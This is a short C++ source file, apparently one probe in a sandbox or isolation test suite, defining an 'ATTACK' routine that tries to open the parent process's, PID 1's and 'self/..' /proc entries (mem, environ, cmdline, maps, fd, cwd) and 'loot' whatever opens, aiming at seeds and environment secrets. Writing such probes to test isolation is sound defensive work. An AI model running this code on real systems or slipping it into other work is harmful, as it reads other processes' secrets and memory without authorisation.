// What /proc tells of others: the seeds on their command lines, secrets in their environments.
#include "attack.h"

namespace {

char* appended(char* end, const char* text) {
  while (*text != 0) *end++ = *text++;
  *end = 0;
  return end;
}

}  // namespace

ATTACK(proc_parent) {
  char number[24] = {};
  int at = 20;
  for (long pid = attack::call(SYS_getppid); pid > 0; pid /= 10) {
    number[--at] = static_cast<char>('0' + pid % 10);
  }
  for (const char* who : {static_cast<const char*>(number + at), "1", "self/.."}) {
    for (const char* what : {"/mem", "/environ", "/cmdline", "/maps", "/fd", "/cwd"}) {
      char path[128];
      appended(appended(appended(path, "/proc/"), who), what);
      if (attack::open_file(path) >= 0) attack::loot(path);
    }
  }
}
